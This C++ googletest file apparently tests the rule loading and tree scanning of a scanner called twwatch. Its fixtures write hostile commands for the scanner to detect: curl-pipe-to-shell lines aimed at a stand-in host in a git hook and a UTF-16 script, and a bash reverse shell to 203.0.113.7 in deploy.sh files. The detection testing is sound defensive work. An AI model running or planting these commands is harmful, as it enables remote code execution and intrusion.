// Loading rules from both folders through the real twwatch: broken files and refused rules are named and
// skipped while everything else loads, and the audit command copes with the trees it is pointed at.

#include "ScanRunner.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <set>
#include <sys/stat.h>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

const char* kUserRule =
    "rule user_marker_file { meta: severity = \"high\" condition: filename == \"marker.txt\" }\n";

const char* kBrokenRule =
    "rule broken_rule {\n  meta:\n    severity = \"high\"\n  condition:\n    true and and\n}\n";

void writeUserRule(const fs::path& configHome, const std::string& fileName, const std::string& text)
{
    fs::create_directories(configHome / "tarnwick" / "rules");
    writeFile(configHome / "tarnwick" / "rules" / fileName, text);
}

class RulesLoading : public ::testing::Test
{
protected:
    void SetUp() override
    {
        useConfigHome(m_config.path());
        writeFile(m_tree / "marker.txt", "hello\n");
        fs::create_directories(m_tree / ".git" / "hooks");
        writeFile(m_tree / ".git" / "hooks" / "post-merge", "#!/bin/sh\ncurl -s https://e.example/x | sh\n");
    }
    TempDir m_config;
    TempDir m_tree;
};

// A broken file beside one that loads, an empty one, one that names the same rule and one with rules
// without a proper severity: the check fails and names each, the scan goes on with everything else. A user
// rule on the text view fires where the raw bytes do not hold its text, its line carrying the rule's
// description and the file's line.
TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
{
    writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
    writeUserRule(m_config.path(), "b-good.yar", kUserRule);
    writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
    writeUserRule(m_config.path(), "c-empty.yar", "");
    writeUserRule(m_config.path(), "d-refused.yar",
                  "rule bare { meta: author = \"x\" condition: true }\n"
                  "rule capitalised { meta: severity = \"High\" condition: true }\n"
                  "rule padded { meta: severity = \"high \" condition: true }\n"
                  "rule unknown_word { meta: severity = \"info\" condition: true }\n"
                  "rule not_a_string { meta: severity = 3 condition: true }\n");
    writeUserRule(
        m_config.path(), "e-view.yar",
        "rule user_text { meta: severity = \"high\" description = \"fetches \\\"x\\\"\\nand runs it\" "
        "strings: $a = \"curl -fsSL https://e.example/x | sh\" condition: $a and view == \"text\" }\n");
    std::string utf16 = "\xFF\xFE";
    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"))
        utf16 += std::string{c, '\0'};
    writeFile(m_tree / "setup.sh", utf16);
    const ScanResult check = runTwwatch({"--check-rules"});
    const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
    EXPECT_EQ(check.process.exitCode, 1);
    EXPECT_NE(check.process.err.find(broken + ":5: syntax error"), std::string::npos) << check.process.err;
    for (const char* rule : {"bare", "capitalised", "padded", "unknown_word", "not_a_string"})
        EXPECT_NE(check.process.out.find("  " + std::string(rule) + " (refused)\n"), std::string::npos)
            << rule;
    EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
    EXPECT_NE(check.process.out.find("c-empty.yar: 0 rules loaded"), std::string::npos) << check.process.out;

    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 0);
    std::multiset<std::string> found;
    for (const auto& e : r.events) {
        found.insert(e.rule + " " + e.severity);
        if (e.rule == "user_text") {
            EXPECT_EQ(e.description, "fetches \"x\"\nand runs it");
            EXPECT_EQ(e.lines, std::vector<std::uint32_t>{2});
        }
    }
    EXPECT_EQ(found, (std::multiset<std::string>{"git_hook_runs_payload critical", "user_marker_file high",
                                                 "user_marker_file high", "user_text high"}))
        << r.process.out;
}

// The bundled pack is found beside the executable through /proc/self/exe, wherever that is; without
// it the check fails.
TEST_F(RulesLoading, BundledPackBesideTheExecutable)
{
    TempDir install;
    fs::create_directories(install / "bin" / "rules");
    fs::copy_file(twwatchBinary(), install / "bin" / "twwatch");
    writeFile(install / "bin" / "rules" / "good.yar", kUserRule);
    writeFile(install / "bin" / "rules" / "notes.txt", "not a rule file");
    const ScanResult check = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
    EXPECT_EQ(check.process.exitCode, 0) << check.process.err;
    EXPECT_NE(check.process.out.find("1 rules loaded from 1 files"), std::string::npos) << check.process.out;

    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
    ASSERT_EQ(r.events.size(), 1u) << r.process.out;
    EXPECT_EQ(r.events[0].rule, "user_marker_file");

    fs::remove_all(install / "bin" / "rules");
    const ScanResult none = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
    EXPECT_EQ(none.process.exitCode, 1);
    EXPECT_NE(none.process.err.find("no rule folder at " + (install / "bin/rules").string()),
              std::string::npos)
        << none.process.err;
}

// FIFOs and devices are declined without blocking, a link loop is not followed, git's object store is
// pruned like the watcher prunes it, a missing root does not stop the others, and relative roots come
// out as absolute paths.
TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
{
    ASSERT_EQ(::mkfifo((m_tree / ".git" / "hooks" / "pre-commit").c_str(), 0755), 0);
    fs::create_directory_symlink(m_tree.path(), m_tree / "loop");
    fs::create_symlink("/dev/zero", m_tree / "zero.js");
    fs::create_directories(m_tree / ".git" / "objects" / "ab");
    writeFile(m_tree / ".git" / "objects" / "ab" / "deploy.sh",
              "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    fs::create_directories(m_tree / "scripts");
    writeFile(m_tree / "scripts" / "deploy.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");

    const ScanResult r = runTwwatch({"--scan", (m_tree / "nowhere").string(), m_tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 3) << "a folder that cannot be read, not a usage error nor a hang\n"
                                     << r.process.err;
    EXPECT_NE(r.process.err.find("nowhere"), std::string::npos) << r.process.err;
    std::set<std::string> paths;
    for (const auto& e : r.events)
        paths.insert(e.path + " " + e.rule);
    const std::set<std::string> expected{(m_tree / ".git/hooks/post-merge").string() +
                                             " git_hook_runs_payload",
                                         (m_tree / "scripts/deploy.sh").string() + " reverse_shell"};
    EXPECT_EQ(paths, expected) << r.process.out;

    const ScanResult relative = runTwwatch({"--scan", "scripts"}, twwatchBinary(), m_tree.path());
    ASSERT_EQ(relative.events.size(), 1u) << relative.process.out << relative.process.err;
    EXPECT_EQ(relative.events[0].path, (m_tree / "scripts/deploy.sh").string());
}

// The user's rules are read from ~/.config when $XDG_CONFIG_HOME is unset.
TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
{
    ::unsetenv("XDG_CONFIG_HOME");
    const std::string oldHome = ::getenv("HOME") ? ::getenv("HOME") : "";
    ::setenv("HOME", m_config.path().c_str(), 1);
    writeUserRule(m_config / ".config", "mine.yar", kUserRule);
    for (int i = 0; i < 300; ++i) {
        fs::create_directories(m_tree / ("pkg" + std::to_string(i % 17)));
        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("marker.txt"), "x");
        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("f" + std::to_string(i) + ".txt"), "x");
    }
    const ScanResult first = runTwwatch({"--scan", m_tree.path().string()});
    const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
    ::setenv("HOME", oldHome.c_str(), 1);
    ASSERT_EQ(first.process.exitCode, 0) << first.process.err;
    EXPECT_EQ(first.events.size(), 19u);
    EXPECT_EQ(first.process.out, second.process.out) << second.process.err;
}

} // namespace
